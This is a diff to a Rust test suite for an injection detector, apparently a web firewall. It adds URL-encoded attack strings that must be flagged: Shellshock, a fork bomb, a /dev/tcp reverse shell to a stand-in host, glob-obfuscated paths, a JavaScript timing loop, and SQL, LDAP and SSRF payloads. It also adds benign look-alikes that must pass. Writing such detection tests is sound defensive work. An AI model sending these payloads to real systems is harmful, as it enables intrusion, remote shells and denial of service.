@@ -281,6 +281,15 @@ fn command_injection_techniques() {
         "args=%3Benv",               // a wrapper run alone
         "x=%7B,%24%27whoami%27,%7D", // ANSI-C quoting in brace expansion
         "x=~%2B",                    // a directory-stack expansion
+        "x=%28%29%20%7B%20%3A%3B%20%7D%3B%20ping%20203.0.113.9", // Shellshock
+        "rce=!-1!-2",                // history expansion by position
+        "payload=%5Cls",             // a command escaped past aliases
+        "a=%7Bl,-lh%7Ds",            // a brace expansion joining into `ls -lhs`
+        "a=%7B/?s?/?i?/c?t,%7D",     // ... into a globbed path
+        "args=%3Benv%20--version",   // a wrapper with its own options
+        "cmd=f()%7B%20f()%20%26%20f()%3B%20%7D%3B%20f", // a fork bomb by background calls
+        "cmd=d%3D/dev%26%26(sh)0%3E%24d/tcp/203.0.113.9/777", // /dev held in a variable
+        "search=%26%26%2B%7C%2Bdir%20c:/", // `+` for spaces beside separators
     ] {
         assert_attack(query(q), "cmdi");
     }
@@ -307,6 +316,11 @@ fn prose_with_semicolons_and_pipes_is_not_a_command() {
         "eta=~5",
         "q=time%20flies",
         "price=%2410%20or%20%245",
+        "msg=wow!!",                  // an exclamation, not history
+        "q=!!",
+        "route=/api/*/v?/x",          // a route pattern, not a globbed program
+        "q=%7Bred,green%7Dish",       // braces in prose
+        "height=5%E2%80%B2%2011",     // a prime for feet
     ] {
         assert_clean(query(q));
     }
@@ -389,6 +403,18 @@ fn other_injections() {
         "nosqli",
     );
     assert_attack(query("filter=0%3Breturn%20true"), "nosqli");
+    // A loop spinning until time has passed: the timing probe in server-side JavaScript.
+    assert_attack(
+        query("w=0%3Bvar%20d%3Dnew%20Date()%3Bdo%7Bc%3Dnew%20Date()%3B%7Dwhile(c-d%3C10000)"),
+        "js_injection",
+    );
+    // base64 quoted inside a structured value: `0' || 2=1e1union all /*!select*/ 1, 2#`.
+    assert_attack(
+        form("id=%7B%27id%27%3A+%27MCcgfHwgMj0xZTF1bmlvbiBhbGwgLyohc2VsZWN0Ki8gMSwgMiM%3D%27%7D"),
+        "sqli",
+    );
+    // A prime standing in for the quote.
+    assert_attack(query("q=%29%20or%20%271%E2%80%B2%3D%271"), "sqli");
     assert_attack(query("user=admin)(%7C"), "ldapi"); // a filter broken out at the end
     assert_attack(query("url=host.docker.internal%2F"), "ssrf"); // no scheme
     assert_attack(query("u=unix:AAAA%7Chttp://x.example/"), "ssrf"); // mod_proxy's socket syntax
